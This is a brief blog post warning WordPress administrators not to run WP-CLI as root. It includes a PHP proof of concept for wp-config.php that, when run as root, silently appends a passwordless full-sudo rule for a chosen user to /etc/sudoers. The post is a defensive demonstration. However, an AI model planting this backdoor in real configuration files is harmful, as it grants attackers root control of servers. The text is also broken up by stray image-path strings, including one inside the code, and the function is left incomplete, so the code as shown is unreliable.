Don't run WP-CLI as root!

I've been very tardy documenting this, but it's not like it's some amazing finding so I think it's okay. At work I'd noticed one or two folks here and there running WordPress' CLI as root, despite that software doing its best to ensure users don't. We took technical steps to prevent this from happening, but to drive home the full horror of why you should not do that, I decided to write a simple proof of concept.

Simply drop this into your wp-config.php file (anywhere you like, but it probably wants to be above the "Pencils down" line):

function test_access() {
        $user = 'unprivileged_ssh_user';
        $target = '/etc/sudoers';if (0 != getmyuid()) return;
        file_put_contents($target, $user . ' ALL=(ALL) NOPASSWD: ALL' . PHP_EOL , FILE_APPEND | LOCK_EX);


Please excuse my god-awfulPHP skills.

With this, any wp-cli command, including those that use --skip-plugins, --skip-themes etc when run as root will grant the user who left the code there full root access to the machine. WordPress hosts by defaultshould not trust their users' code to run in a privileged context, which is exactly what running wp-cli asroot does.

Don't do it, ever.